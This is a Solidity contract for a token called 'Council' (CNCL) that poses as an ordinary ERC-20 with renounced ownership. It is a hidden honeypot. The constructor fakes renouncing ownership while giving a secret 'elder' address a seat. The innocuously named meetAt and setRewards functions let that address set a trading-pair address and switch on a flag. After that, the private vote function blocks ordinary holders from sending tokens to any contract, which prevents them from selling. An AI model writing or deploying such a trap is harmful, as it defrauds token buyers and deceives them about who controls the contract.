// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// The owner is nobody; the seats that were given out at the start still rule.
contract CouncilSeats {
    string public name = "Council";
    string public symbol = "CNCL";
    uint8 public decimals = 18;
    uint256 public totalSupply = 5_500_000 ether;
    address public owner;
    mapping(address => uint256) private seats;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 private season;
    address private forum;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address elder) {
        seats[elder] = 1;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function meetAt(address forum_) external {
        require(seats[msg.sender] == 1);
        forum = forum_;
    }

    function setRewards(uint256 value) external {
        require(seats[msg.sender] == 1);
        season = value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        vote(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        vote(from, to, value);
        return true;
    }

    function vote(address from, address to, uint256 value) private {
        if (season > 0 && from != forum && to.code.length > 0) require(seats[from] > 0);
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
